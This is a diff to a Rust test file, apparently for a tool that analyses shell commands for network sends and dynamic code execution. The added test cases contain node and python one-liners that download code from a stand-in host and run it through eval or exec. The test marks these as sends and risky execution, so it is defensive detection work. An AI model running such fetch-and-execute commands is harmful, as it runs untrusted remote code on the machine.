@@ -353,6 +353,20 @@ fn python_sends_with_bodies_from_the_environment_and_files() {
             &["send https://h.example/c POST [environment]"],
         ),
         (
+            r#"node -e "fetch('https://h.example/x').then(r => r.text()).then(eval)""#,
+            &[
+                "send https://h.example/x GET []",
+                "unsure `eval` passed as a callback runs code known only at run time",
+            ],
+        ),
+        (
+            r#"python3 -c "import urllib.request as u; list(map(exec, u.urlopen('https://h.example/x').read().decode().splitlines()))""#,
+            &[
+                "unsure `exec` passed as a function runs code known only at run time",
+                "send https://h.example/x GET []",
+            ],
+        ),
+        (
             r#"python3 -c "import socket; socket.create_connection(('db.internal', 5432)).close()""#,
             &["send db.internal - []"],
         ),
